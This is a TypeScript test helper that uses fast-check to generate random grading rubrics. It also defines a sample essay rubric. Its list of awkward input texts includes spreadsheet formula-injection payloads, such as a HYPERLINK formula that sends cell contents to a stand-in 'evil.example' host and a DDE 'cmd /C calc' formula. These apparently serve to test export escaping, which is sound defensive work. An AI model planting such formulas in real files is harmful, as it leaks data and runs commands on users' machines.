import fc from 'fast-check'
import type { Rubric, RubricCriterion, RubricLevel } from '../../src/shared/rubric.ts'

const source = { in: 'edit' } as const

/** Texts as they come out of documents, and worse. */
const text = fc.oneof(
  { weight: 4, arbitrary: fc.string({ minLength: 1, maxLength: 40, unit: 'grapheme' }) },
  { weight: 2, arbitrary: fc.string({ minLength: 1, maxLength: 20, unit: 'binary' }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      '+1+1',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1,1)',
      '- first point\n- second point',
      'cites “three” sources; a | b, c',
      '"quoted", and\r\nmore',
      '\t=1',
      '  spaced  ',
      '_x0041_ and _x000D_',
      ']]><!-- & <b>bold</b>',
      '# *not* a [heading](x)\\',
      '优秀：引用三个来源',
      'ممتاز',
      '\u0000\u0007bell',
      '\ud800 half a pair',
      '＝1+1',
      'a\u2028b',
    ),
  },
)

const points = fc.oneof(
  fc.integer({ min: 0, max: 100 }),
  fc.integer({ min: -20, max: 400 }).map((quarter) => quarter / 4),
  fc.double({ min: 0, max: 50, noNaN: true }).map((value) => value + 0),
)

const optional = <Value>(arbitrary: fc.Arbitrary<Value>) => fc.option(arbitrary, { nil: undefined, freq: 3 })

const level: fc.Arbitrary<RubricLevel> = fc
  .record({
    label: optional(text),
    range: optional(fc.tuple(points, points)),
    single: fc.boolean(),
    descriptor: optional(text),
  })
  .map(({ label, range, single, descriptor }) => {
    const [a, b] = range ?? []
    return {
      ...(label === undefined ? {} : { label }),
      ...(a === undefined || b === undefined
        ? {}
        : single
          ? { min: a, max: a }
          : { min: Math.min(a, b), max: Math.max(a, b) }),
      ...(descriptor === undefined ? {} : { descriptor }),
      source,
    }
  })

const criterion = (levels: fc.Arbitrary<RubricLevel[]>): fc.Arbitrary<RubricCriterion> =>
  fc
    .record({
      title: fc.oneof(text, fc.constant('')),
      description: optional(text),
      weight: optional(fc.integer({ min: 1, max: 100 })),
      section: optional(text),
      levels,
    })
    .map(({ description, weight, section, ...rest }) => ({
      ...rest,
      ...(description === undefined ? {} : { description }),
      ...(weight === undefined ? {} : { weight }),
      ...(section === undefined ? {} : { section }),
      source,
    }))

/** Ragged rubrics, and grids with a shared scale. */
export const anyRubric: fc.Arbitrary<Rubric> = fc
  .record({
    title: fc.oneof(text, fc.constant('')),
    kind: fc.constantFrom('grid', 'holistic', 'single-point', 'checklist', 'deduction', 'outline', 'likert'),
    scoring: fc.constantFrom('points', 'percent', 'none'),
    levels: optional(fc.array(level, { minLength: 1, maxLength: 5 })),
    criteria: fc.oneof(
      fc.array(criterion(fc.array(level, { maxLength: 6 })), { minLength: 1, maxLength: 6 }),
      fc.array(criterion(fc.array(level, { minLength: 11, maxLength: 22 })), { minLength: 1, maxLength: 2 }),
      fc.array(criterion(fc.array(level, { minLength: 1, maxLength: 2 })), { minLength: 49, maxLength: 53 }),
    ),
    stated: optional(points),
  })
  .map(
    ({ stated, levels, ...rest }): Rubric => ({
      ...rest,
      ...(levels === undefined ? {} : { levels: levels.map(({ descriptor: _, ...head }) => head) }),
      total: { computed: 0, ...(stated === undefined ? {} : { stated }) },
      warnings: [],
      source,
    }),
  )

/** Four levels, 4 to 1 points, two criteria. */
export function essayRubric(): Rubric {
  const heads = ['Excellent', 'Good', 'Fair', 'Poor']
  const levels = (descriptors: string[]): RubricLevel[] =>
    heads.map((label, at) => ({ label, min: 4 - at, max: 4 - at, descriptor: descriptors[at] ?? '', source }))
  return {
    title: 'Essay',
    kind: 'grid',
    scoring: 'points',
    levels: heads.map((label, at) => ({ label, min: 4 - at, max: 4 - at, source })),
    criteria: [
      {
        title: 'Thesis',
        levels: levels([
          'States a thesis that can be argued.',
          'States a thesis.',
          'Names a topic.',
          'No thesis.',
        ]),
        source,
      },
      {
        title: 'Sources',
        levels: levels(['Cites five sources.', 'Cites three sources.', 'Cites one source.', 'Cites none.']),
        source,
      },
    ],
    total: { stated: 8, computed: 8 },
    warnings: [],
    source,
  }
}
